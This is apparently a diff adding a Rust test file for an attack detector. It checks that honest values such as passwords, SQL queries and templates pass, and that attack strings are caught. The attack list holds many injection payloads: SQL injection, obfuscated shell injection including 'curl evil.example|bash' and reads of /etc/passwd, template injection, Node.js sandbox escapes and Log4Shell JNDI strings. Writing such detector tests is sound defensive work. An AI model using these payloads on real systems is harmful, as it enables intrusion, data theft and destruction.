@@ -1,0 +1,329 @@
+//! Honest values and attacks that look like each other, with the field each stood in: what users of guards reported as wrongly refused,
+//! and what their authors reported as missed. No text is a row of a corpus.
+
+use super::*;
+use crate::model::places::Format;
+
+/// What they are, the part, the field's name, and the texts.
+type Texts = (&'static str, Part, &'static str, &'static [&'static str]);
+
+/// What people and programs send.
+#[rustfmt::skip]
+const HONEST: &[Texts] = &[
+    ("passwords", Part::Body, "password", &[
+        "Sommer!@#2024", "Winter#@!99", "b!@#", "Test!@#$1234", "Fu=d~@0#/,H1VV7~R`''", "O'Neil#7", "pa'ss\"#", "x1';", "k`!';", "a)(&b", "*)(Xy7",
+        "n)(I<Yqk", "9=-KU~b/H<\"#", "love7103')#", "Qwertz@(1234", "<%>s>~`\").", "/[,/*/QSB,~&|w:[", "}\\&]z7g/?/[{-R2\"l$(<Pe", "Xk$0<<<9a",
+        "7'+2-'q", "'-'", "1'='1#", "C_Ol=08s_y}@y#y&$u@wI", "A'&'9!", "q;id", "|iD`C?9H9Z", "n'%'3x", "$(<p9", "M%@N,OC_R#Jbz5{J",
+    ]),
+    ("passwords", Part::Body, "new_password_confirmation", &[
+        "Admin!@#2025", "Hallo!!@@##", "XJ+id}L;d$*2\"6Gb#m6jwh$1",
+    ]),
+    ("passwords", Part::Body, "username", &[
+        "b!@#", "kim!@h", "x#!@_y",
+    ]),
+    ("cookies", Part::Cookie, "sbjs_migrations", &[
+        "1418474375998=1",
+    ]),
+    ("cookies", Part::Cookie, "ab_home", &[
+        "12=12", "3=1", "1=1", "7=7",
+    ]),
+    ("lists", Part::Body, "columns", &[
+        "kunde;id;ort", "spalte;sort;id", "name;id", "id;name;date", "datum;zeit;host;id",
+    ]),
+    ("lists", Part::Query, "fields", &[
+        "name;id;mail", "host;id;date", "sku;ver;id;price",
+    ]),
+    ("lists", Part::Query, "q", &[
+        "first name;id;city", "red;green;id;blue",
+    ]),
+    ("lists", Part::Query, "url", &[
+        "https://bucket.s3.example.com/a.pdf?X-Amz-SignedHeaders=host;id;date&X-Amz-Signature=abc",
+    ]),
+    ("look-ups", Part::Body, "value", &[
+        "${date:YYYY}", "${env:STAGE} ${opt:stage, 'dev'} ${self:service}", "${DB_HOST:-localhost}:${DB_PORT:-5432}",
+        "${date:format=yyyy-MM-dd} ${env:HOME}", "${env:HOME}/bin", "${sys:user.dir}/logs", "${PORT:-8080}", "${LOG_LEVEL:-info}",
+        "${env:DATABASE_URL}", "${ctx:requestId}", "%d{HH:mm} ${main:0} - %m%n", "${java:version}", "${VERSION:-1}",
+        "arn:aws:s3:::${self:provider.stage}-${env:BUCKET}", "${docker:containerId}", "${server.port:8080}", "${spring.application.name}",
+        "${file(./env.yml):dev}", "${TAG:-latest}", "image: app:${TAG:-v1}",
+    ]),
+    ("templates", Part::Body, "template", &[
+        "Hello {{firstName}}, {{#each items}}{{this.name}} {{/each}}", "{{123__name}} bought {{123__item__title}}",
+        "{{ user.first_name | default: \"you\" }}", "{% if user.active %}Hi{% endif %}", "{% for item in items %}{{ item.title }}{% endfor %}",
+        "{{#if paid}}Thanks{{else}}Please pay{{/if}}", "{{#with order}}{{total}}{{/with}}", "{% assign x = 5 %}{{ x | times: 2 }}",
+        "{{ \"now\" | date: \"%Y\" }}", "{{formatDate date \"DD.MM.\"}}", "{{> header}}", "{% include \"footer\" %}",
+        "{{ states(\"sensor.temp\") | float }}", "*|FNAME|*", "[[first_name]]", "{{ contact.name|title }}",
+    ]),
+    ("templates", Part::Body, "html", &[
+        "{{#each items}}<li>{{this}}</li>{{/each}}", "{{201__order__name}} / {{201__line_items__0__title}}",
+        "{% load i18n %}{% trans \"Hello\" %} {{ user.username }}", "{{ 'now'|date('Y') }} {{ name|upper }}", "Dear {{ user.get_full_name() }},",
+        "{{ trigger.to_state.state }} {{ is_state('light.kitchen','on') }}", "<p>{{ order.total|money(2) }}</p>", "{% set total = 0 %}{{ total }}",
+        "{% csrf_token %}<form></form>", "{{ asset(\"head.html\") }}", "{% for i in range(3) %}{{ loop.index }}{% endfor %}",
+    ]),
+    ("statements", Part::Body, "query", &[
+        "SELECT Id, Name, Owner.Name FROM Opportunity WHERE StageName = 'Closed Won' AND Amount > 1000 ORDER BY CloseDate DESC LIMIT 50",
+        "SELECT date_trunc('month', created_at) AS m, count(*) FROM orders GROUP BY 1 ORDER BY 1",
+        "SELECT $__timeGroup(created_at,'5m'), avg(value) FROM metrics WHERE $__timeFilter(created_at) AND host IN ($host) GROUP BY 1",
+        "SELECT id, updated_at FROM public.users WHERE updated_at > '2024-05-01T00:00:00Z'",
+        "with a as (select id, name from {{ ref('stg') }}) select * from a where id is not null", "SELECT a.id FROM a UNION ALL SELECT b.id FROM b",
+        "SELECT CASE WHEN x > 1 THEN 'a' ELSE 'b' END FROM t", "SELECT FIELDS(ALL) FROM Account LIMIT 200",
+        "select count(distinct user_id) from events where type = 'click' and day between '2024-01-01' and '2024-01-31'",
+        "SELECT * FROM c WHERE c.type = 'x' OR c.n = 1", "FIND {Acme} IN ALL FIELDS RETURNING Account(Id, Name)",
+        "INSERT INTO notes (title, body) VALUES ('a', 'b')", "SELECT cast(x as int), y::text FROM t WHERE z IS NOT NULL",
+        "explain select * from orders where id = 7", "SELECT Name FROM Account WHERE Name LIKE 'A%' OR Name LIKE 'B%'",
+    ]),
+    ("statements", Part::Body, "native.query", &[
+        "SELECT id, name FROM stops WHERE agency = 'Metro' AND lat > 34",
+    ]),
+    ("statements", Part::Body, "dashboard.panels.targets.rawSql", &[
+        "SELECT $__time(created_at), count(*) FROM orders WHERE $__timeFilter(created_at) GROUP BY 1 ORDER BY 1",
+    ]),
+    ("statements", Part::Body, "resourceSpans.scopeSpans.spans.attributes.value.stringValue", &[
+        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.total > $1 AND c.country = 'DE' UNION ALL SELECT id, name FROM archive",
+    ]),
+    ("query languages", Part::Body, "queries.expr", &[
+        "(1 - (node_memory_MemAvailable_bytes{instance=\"$node\"} / node_memory_MemTotal_bytes)) * 100 and on(instance) up == 1",
+        "rate(http_requests_total{job=\"api\",code=~\"5..\"}[5m]) > 0.5", "sum by (pod) (rate(container_cpu{ns!=\"\"}[1m])) or vector(0)",
+        "{app=\"web\"} |= \"error\" | json | status >= 500", "histogram_quantile(0.9, rate(x_bucket[5m])) unless up == 0",
+        "absent(up{job=\"a\"}) == 1 or up{job=\"a\"} == 0", "count_over_time({job=\"a\"} |~ \"timeout\" [5m])",
+        "label_replace(up, \"host\", \"$1\", \"instance\", \"(.*):.*\")", "avg(a) > 10 and avg(b) < 5",
+    ]),
+    ("query languages", Part::Body, "filter", &[
+        "status = \"Open\" AND assignee = currentUser() ORDER BY created DESC", "name eq 'Milk' and price gt 5",
+        "title:\"foo\" AND (author:bar OR author:baz)", "resource.type=\"k8s_container\" AND severity>=ERROR",
+        "request.auth != null && request.auth.uid == userId", "age >= 18 and country in (\"DE\", \"AT\")",
+    ]),
+    ("prose", Part::Query, "q", &[
+        "case when it rains then what else end of story", "in case when you have 5 dogs then call", "select one of our range, 50% off",
+        "and thanks like", "and I like it", "or I like a walk", "the best case when sorted, then shown", "Select two, get 1 free",
+        "rock and roll or jazz", "boys' and girls like football", "his or her; select one", "sale; select items 20% off",
+        "Hello; find attached my CV", "O'Brien or O'Neill is fine", "1 or 2 people", "2 or 3", "table for 2 or 4", "not 1 but 2",
+        "rooms between 2 and 4", "\"5 & under\" and \"6 & over\"", "size 7 and 8", "50% off; ends 5/5", "Best of 90's; 80's and 70's",
+        "union select committee", "insert coin into the slot", "where is my order #5", "order by 5 pm today", "it's 10 o'clock -- almost",
+        "50/50 and 60/40", "Q&A; terms & conditions", "#1 or #2", "update set of tyres", "A/C; heating; TV", "I'd like to order by phone",
+        "who is like that", "grant access to all", "table 5; chair 6", "show tables for 2", "prepare dinner from scratch; execute", "vacuum cleaner",
+    ]),
+    ("prose", Part::Body, "message", &[
+        "Thanks; show me the tables please", "Yes; set the table for 5", "Sorry; kill the order 5 please", "OK; use it as is", "Hi; call me at 5",
+        "Hello; begin at 5, end at 6", "We met; then I said 'no' and left", "Please drop it; delete from my account", "Use x; analyze the data",
+        "Good; commit to it", "Hi; lock the tables inside", "Fine; print it on A4", "Then; reset all to default", "So; explain it",
+        "Right; notify me",
+    ]),
+    ("shell in text", Part::Body, "message.text", &[
+        "<https://example.com|link> *bold* `code; ls` <@U1>", "please run `npm test; ls -la` before you push",
+        "the log says `sh: 1: foo: not found; id` again and again", "use `cat file | grep x` here please, thanks",
+        "what does `a && b; whoami` do in a script?",
+    ]),
+    ("shell in text", Part::Body, "text", &[
+        "you can do `cd app && ls` to see all the files", "then I typed `ps; top` and it worked",
+    ]),
+    ("shell in text", Part::Query, "q", &[
+        "cats; dogs; and find more", "install python; then pip", "curl vs wget", "how to kill a process", "linux;docker;git", "html|css|php",
+        "java & python", "A | B testing", "more; less", "head & tail lights", "while we wait; do it", "if you can; then do", "for you; do it now",
+        "the function of f(x)", "function keys {F1}", "select x in the list", "time {flies}", "chmod and chown", "useradd manual",
+        "Black & Decker find", "R;D and more", "Amazon;echo dot", "Tom & Jerry.exe", "100 > 50; 50 > 20", "Home & Garden > Tools",
+    ]),
+    ("admin forms", Part::Body, "command", &[
+        "/usr/bin/php /var/www/shop/cron.php", "/usr/bin/php /var/www/shop/artisan schedule:run", "/usr/bin/python3 /srv/app/jobs.py --daily",
+        "/usr/local/bin/node /srv/app/worker.js",
+    ]),
+    ("code", Part::Body, "code", &[
+        "const fs = require('fs').promises", "if (require.main === module) run()", "this.process(data)", "import { x } from \"./x\"",
+        "const cfg = require('../config')", "module.exports = { a: 1 }", "process.env.NODE_ENV", "new Function(a, b)", "obj.constructor.name",
+        "export default class A {}", "a.b(c); d.e(f)",
+    ]),
+];
+
+/// What they are found by, the part, the field's name, and the texts.
+#[rustfmt::skip]
+const ATTACKS: &[Texts] = &[
+    ("sqli", Part::Query, "id", &[
+        "a'+sleep(3)+'b", "'-(select 1)-'", "1'-sleep(3)-'", "'%'", "'&'0", "'<'1", "'+'", "'^'1", "'*(sleep(5))*'", "'||pg_sleep(5)||'",
+        "x'/(case when 1 then 1 end)/'y", "'-benchmark(1000,md5(1))-'", "'|(select 1)|'", "a'^(ascii(substr(user(),1,1)))^'", "'+@@version+'",
+        "'-0-'", "1'*1*'1", "'+(select password from users)+'", "\"-sleep(1)-\"", "'>>(select 1)>>'", "a'-user()-'", "'='", "'*'", "'|'1", "'-'",
+    ]),
+    ("sqli", Part::Query, "id", &[
+        "7 and false", "5||1", "not 1", "1 div 1", "2 or 1", "1&&1", "1 regexp 1", "id=id", "1 xor 1", "1 rlike 2", "3 and true", "1 or not 0",
+        "5 and null", "1 like 1", "1 && 0", "name=name", "not (1)", "1 mod 2", "7 and 1", "1 or id",
+    ]),
+    ("sqli", Part::Query, "user_id", &[
+        "2 or 1", "not 0", "uid=uid",
+    ]),
+    ("sqli", Part::Query, "id", &[
+        "' or name collate nocase = 'admin", "' or name GLOB 'a*", "' or name similar to 'a%", "' or name ~* '^a", "' or name sounds like 'bob",
+        "' and name ilike 'a%", "' or x in ('a')", "' or id between 1 and 9", "' or name is not distinct from 'a", "' and name not like 'a%",
+        "' or a.b^='x", "' or name regexp '^a", "' limit 1", "' order by 3", "' order by name --", "' group by 1 having", "x' where id=1",
+        "' into outfile '/tmp/a", "' for update", "' offset 1", "') order by 1", "SELECT-id-1.FROM`test`",
+        "' UNION SELECT username || ':' || password FROM users", "1 union select a+1,b from c", "1 union all select pass as x from users",
+        "1 union select user.name from users", "' or username like totpSecret escape 'x';", "' || pkg.proc('x') || '",
+    ]),
+    ("sqli", Part::Query, "id", &[
+        "1; show tables", "1; prepare p from 'select 1'; execute p", "1; vacuum; analyze users",
+        "0); show warnings; set @q=0x53454c454354; prepare stmt from @q; execute stmt;#", "1;vacuum", "1; show databases",
+        "1; set global general_log=1", "1; flush privileges", "1; lock tables a write", "1; handler t open", "1'; rename table a to b--",
+        "1; alter system set x=1", "1; create role x", "1; drop schema public cascade", "1; begin; rollback", "1; dbcc checkdb", "1; kill 5",
+        "1; explain select 1", "1; pragma table_info(users)", "1; detach database x", "1; call p(1)", "1; select name from users", "1; truncate logs",
+        "1; optimize table t", "1; reset master", "1; comment on table a is null", "1;copy t to stdout", "5; values (1)", "1; use mysql",
+        "1; revoke all on a from b", "1; declare x int", "1; commit;", "1; install plugin x soname y", "1); savepoint a",
+        "1; if(1=1) waitfor delay 5", "1; merge a",
+    ]),
+    ("sqli", Part::Query, "q", &[
+        "case when 1=1 then 1 else 0 end", "(case when (1=1) then 1 end)", "case when user like 'a%' then 1 end", "case 1 when 1 then 2 end",
+    ]),
+    ("sqli", Part::Body, "query", &[
+        "' or 1=1--", "1' or '1'='1", "x'; drop table users--", "1 union select 1,2", "select load_file('/etc/passwd') from t where a",
+        "select * from t into outfile '/tmp/x' where a", "select pg_sleep(9) from t where a = b", "1) or (1=1",
+    ]),
+    ("sqli", Part::Body, "password", &[
+        "' or '1'='1", "' or 1=1#", "x' or 1=1 --", "'or'1'='1", "' union select 1,2--", "admin' --", "' || '1'='1",
+    ]),
+    ("command", Part::Query, "ip", &[
+        "1.1.1.1;chown nobody /srv", "1.1.1.1;mkfs.ext4 /dev/sda", "1.1.1.1;killall node", "1.1.1.1;useradd x",
+        "1.1.1.1;git clone http://evil.example/x", "8.8.8.8;find . -exec id \\;", "8.8.8.8;compgen -c", "8.8.8.8;yes>/dev/null", "1.1.1.1;halt",
+        "8.8.8.8;reboot", "1.1.1.1|usermod -aG sudo x", "1.1.1.1&&groupadd x", "1.1.1.1||sysctl -a", "127.0.0.1;dmesg", "127.0.0.1;lsblk", "a;mktemp",
+        "x;umount /mnt", "1;iptables -F", "1.1.1.1;crontab -r", "1.1.1.1;pkill -9 nginx", "1.1.1.1;rmdir x", "1.1.1.1;echo hello", "1.1.1.1;history",
+        "1.1.1.1;printf a", "8.8.8.8;kill -9 1", "8.8.8.8&tasklist", "8.8.8.8|systeminfo", "8.8.8.8&net.exe user", "8.8.8.8;shred x",
+        "8.8.8.8;time id", "8.8.8.8;jobs", "10.0.0.1;top -b", "10.0.0.1|sort x", "10.0.0.1;tar -czf a b", "10.0.0.1\nlast", "10.0.0.1;python -V",
+        "x;perl -v", "x;su - root", "x;dd if=a", "x;awk 1 a", "x;sed -n 1p a", "10.0.0.1;vi a", "host.example;chattr +i a", "a;base64 x",
+        "foo|xargs ls", "8.8.8.8;  chmod 777 x", "8.8.8.8 ; modprobe x", "8.8.8.8';busybox ls;'", "8.8.8.8\");dmesg;#", "1.1.1.1;id>/tmp/x",
+        "x;ls>out.txt", "x;anything 2>&1", "x|foo>/var/www/a",
+    ]),
+    ("command", Part::Query, "ip", &[
+        "1.1.1.1;$BASH -c id", "1.1.1.1;$0<<<id", "1.1.1.1;$'id'", "1.1.1.1;c${Z}at /etc/hosts", "1.1.1.1 & %SystemRoot%\\System32\\whoami.exe",
+        "1.1.1.1 & set x=who&& call %x%ami", "8.8.8.8;$0 -c whoami", "a; sh$XX -c whoami", ";$'\\151\\144'", "8.8.8.8;${PATH:0:1}bin${PATH:0:1}id",
+        "whoami;0'0'", "x;${HOME:0:1}bin", "x;$SHELL -c ls", "x;${SHELL} -c ls", "x;w${abc}hoami", "x;ca${x}t /etc/passwd", "x;$'\\x69\\x64'",
+        "x;${LS_COLORS:10:1}", "x;${PWD%%x}", "x;${!x}", "x & cmd /c dir", "x & %COMSPEC% /c dir", "x & c:\\windows\\system32\\ipconfig.exe",
+        "x|%PATH:~0,1%", "x & call %a%", "x & set a=b& echo %a%", "echo aWQ=|base64 -d|sh", "x;curl evil.example|bash", "x;a<<<b", "ifconfig;x",
+        "x|sudo sh", "x;${IFS#?}", "x;${HOME:0:1}bin)", "x;$\"id\" ;w'ho'ami",
+    ]),
+    ("command", Part::Query, "ip", &[
+        "1.1.1.1;(while :;do id;break;done)", "1.1.1.1;for((;;));do id;break;done", "1.1.1.1 && if [ 1 ];then id;fi", "1.1.1.1;function f { id;};f",
+        "8.8.8.8;while true; do ls;break;done", "x;until false; do id; done", "x;for i in 1 2; do id; done", "x;case x in x) id;; esac",
+        "x;f(){ id;};f", "x;{ id;}", "x;[ 1 ] && id", "x;[[ 1 ]] && id", "x|while read l; do echo $l; done", "x;select i in a; do id; done",
+        "while :; do id; done", "if true; then id; fi", "x;time { id;}", "x;if id;then ls;fi", "x;function f() { id; }; f", "$(if true; then id; fi)",
+    ]),
+    ("template", Part::Body, "name", &[
+        "${{<%[%'\"}}%\\.", "{{7**7}}", "@System.Diagnostics.Process.Start(\"id\")", "{!7*7}", "{{7|add:7}}", "{{=7*7}}", "{{{7*7}}}", "${{7*7}}",
+        "#{7*7}", "%{7*7}", "[=7*7]", "{{-7*7}}", "{{ 7 // 2 }}", "{{'7'*7}}", "{{7<<2}}", "{{(7)*7}}", "@(7*7)", "<%= 7 ** 7 %>", "{@7*7}", "{=7*7}",
+        "<#=7*7#>", "[[${7*7}]]", "{{7%2}}", "{{7^7}}", "{{7==7}}", "@Html.Raw(\"x\")", "@(System.IO.File.ReadAllText(\"x\"))",
+        "@Environment.GetEnvironmentVariable(\"x\")", "@{ var x = 1; }", "{{7*7}}${7*7}<%= 7*7 %>", "{{x.constructor(\"return 1\")}}",
+        "{{#with \"s\" as |string|}}{{/with}}",
+    ]),
+    ("template", Part::Body, "html", &[
+        "{{7*7}}", "{{config}}", "{{ ''.__class__ }}", "{{request.application}}", "{% debug %}", "{{ self._x }}", "{{ x|attr(\"y\") }}",
+        "{{lookup x \"constructor\"}}", "{{ cycler.__init__ }}", "{{ system('id') }}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
+    ]),
+    ("code", Part::Query, "expr", &[
+        "global['process']['binding']('spawn_sync')", "module.constructor._load('fs')", "globalThis.process.mainModule", "process['binding']('fs')",
+        "this.constructor.constructor('return process')()", "Function('return process')()", "require('fs').readFileSync('/x')",
+        "import('child_process')", "import('fs').readFile", "require(`child_process`)", "process.dlopen(x)", "global.process.exit()",
+        "[].constructor.constructor('x')", "root['process']", "require.main.require('fs')", "module._load('vm')", "process?.mainModule",
+        "execSync('x')", "spawn_sync", "Deno.run({cmd:[]})", "Bun.spawn(['id'])", "vm.runInThisContext('x')", "require('node:child_process')",
+        "require('os').userInfo()",
+    ]),
+    ("xss", Part::Query, "q", &[
+        "UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09",
+    ]),
+    ("template", Part::Query, "q", &[
+        "e3s3Kjd9fQ==",
+    ]),
+    ("command", Part::Header, "x-api-version", &[
+        "${env:AWS_SECRET}", "${jndi:ldap://x/a}", "${sys:user.name}", "${java:os}", "${date:yyyy}",
+    ]),
+    ("command", Part::Body, "value", &[
+        "${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x}", "${${::-j}${::-n}di:ldap://x}", "${env:X:-j}ndi:ldap://x", "${lower:j}${lower:n}di",
+        "${a:-j}${b:-n}di",
+    ]),
+];
+
+fn families(part: Part, name: &str, text: &str, options: &Options<'_>) -> Vec<(&'static str, &'static str)> {
+    let field = Field {
+        place: Place { part, name },
+        role: Role::Value,
+        value: text.as_bytes(),
+        spelling: Spelling::Literal,
+    };
+    let mut found = Vec::new();
+    DETECTORS.each(&field, options, &mut |caught| {
+        if caught.finding.score >= CERTAIN {
+            found.push((caught.family.name(), caught.finding.rule));
+        }
+        true
+    });
+    found
+}
+
+fn standard(part: Part, name: &str, text: &str) -> Vec<(&'static str, &'static str)> {
+    families(part, name, text, &Options::STANDARD)
+}
+
+#[test]
+fn what_people_and_programs_send_passes() {
+    let mut refused = Vec::new();
+    for (kind, part, name, texts) in HONEST {
+        let found = texts.iter().map(|text| (text, standard(*part, name, text)));
+        refused.extend(found.filter(|(_, found)| !found.is_empty()).map(|found| (kind, found)));
+    }
+    assert!(refused.is_empty(), "{refused:#?}");
+}
+
+#[test]
+fn what_looks_like_it_is_found() {
+    let mut missed = Vec::new();
+    for (family, part, name, texts) in ATTACKS {
+        let found = texts.iter().map(|text| (text, standard(*part, name, text)));
+        missed.extend(found.filter(|(_, found)| !found.iter().any(|(known, _)| known == family)));
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+}
+
+#[test]
+fn an_attack_behind_a_long_word_is_found() {
+    let word = "A".repeat(9000);
+    for (family, attack) in [
+        ("sqli", "' UNION SELECT name || ':' || word FROM users"),
+        ("sqli", "' or 'x'='x"),
+        ("sqli", "') limit 1"),
+        ("command", ";useradd x"),
+    ] {
+        let found = standard(Part::Body, "a", &format!("{word}{attack}"));
+        assert!(found.iter().any(|(known, _)| *known == family), "{attack}: {found:?}");
+    }
+    assert_eq!(standard(Part::Body, "a", &word), []);
+}
+
+#[test]
+fn a_table_of_a_spreadsheet_passes_where_a_body_is_one() {
+    let of = |format| Options {
+        context: Context {
+            format: Some(format),
+            content_type: "text/csv",
+            ..Context::NONE
+        },
+        ..Options::STANDARD
+    };
+    for text in [
+        "name;id;host;uptime;date\nweb1;17;a.example.com;99.9;2024-01-01\n",
+        "name;id\nAnna;1\n",
+        "Datum;id\r\n01.02.2024;7\r\n",
+    ] {
+        assert_eq!(families(Part::Body, "", text, &of(Format::Text)), [], "{text}");
+    }
+    for text in ["name;id\nAnna;1;cat /etc/passwd\n", "1.1.1.1;id\nx"] {
+        assert_ne!(families(Part::Body, "", text, &of(Format::Text)), [], "{text}");
+    }
+}
+
+#[test]
+fn a_statement_passes_where_statements_are_reported_and_nowhere_else() {
+    let text = "SELECT \"users\".* FROM \"users\" WHERE \"users\".\"email\" = $1 OR 1 = 1 LIMIT 1";
+    let options = Options {
+        context: Context {
+            content_type: "application/x-sentry-envelope",
+            ..Context::NONE
+        },
+        ..Options::STANDARD
+    };
+    assert_eq!(families(Part::Body, "spans.description", text, &options), []);
+    assert_ne!(standard(Part::Query, "id", text), []);
+    assert_ne!(families(Part::Body, "id", &format!("1; {text}"), &options), []);
+}
